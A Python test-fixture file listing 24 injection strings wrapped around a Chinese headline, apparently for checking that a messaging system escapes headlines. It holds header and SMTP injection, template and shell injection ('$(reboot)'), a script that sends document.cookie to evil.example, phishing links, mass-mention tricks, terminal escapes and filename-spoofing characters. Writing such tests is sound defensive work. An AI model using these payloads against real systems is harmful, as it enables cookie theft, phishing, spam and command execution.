"""Headlines that want to be more than text: into headers, templates, markup, mentions, terminals (R17, 24 of them)."""

from __future__ import annotations

PAYLOADS: tuple[str, ...] = (
    # headers of mail and HTTP
    "质量月启动\r\nBcc: everybody@evil.example",
    "质量月启动\nSubject: 您的账户已被冻结",
    "质量月启动\r\n\r\n<html><body>第二封信</body></html>",
    "质量月启动%0d%0aCc: everybody@evil.example",
    "=?utf-8?q?=0D=0ABcc:_everybody@evil.example?= 质量月启动",
    "质量月启动\r\n.\r\nMAIL FROM:<evil@evil.example>",
    "质量月启动\u2028X-Injected: yes",
    # templates
    "{{7*7}} {{config.items()}} 质量月启动",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}质量月启动",
    "${7*7} #{7*7} <%= 7*7 %> 质量月启动",
    "{title} {0.__class__.__mro__} {url!r:>999999999} 质量月启动",
    "%s%s%s%n %(message)s 质量月启动",
    "$(reboot) `reboot` ${IFS}reboot 质量月启动",
    # markup
    "<script>fetch('https://evil.example/?c='+document.cookie)</script>质量月启动",
    '<img src="https://evil.example/pixel.png" onerror="alert(1)">质量月启动',
    '<a href="javascript:alert(1)">质量月启动</a>',
    "[质量月启动](https://evil.example/login) ![](https://evil.example/pixel.png)",
    "**质量月启动** `code` _em_ ~~x~~ # 标题 > 引用 | 表 |",
    "&lt;b&gt;质量月启动&lt;/b&gt; &#x3c;i&#x3e;",
    # mentions of everybody
    '<at user_id="all">所有人</at> 质量月启动',
    "@所有人 @all @everyone @here <!channel> <@U0123456> 质量月启动",
    # terminals, order of reading, structure
    "\x1b]0;evil\x07\x1b[2J质量月启动\x00\x08\x9b31m",
    "质量月启动\u202egpj.exe\u2066\u200b\u2060\ufeff",
    '质量月启动"}],"msgtype":"markdown","at":{"isAtAll":true}}',
)
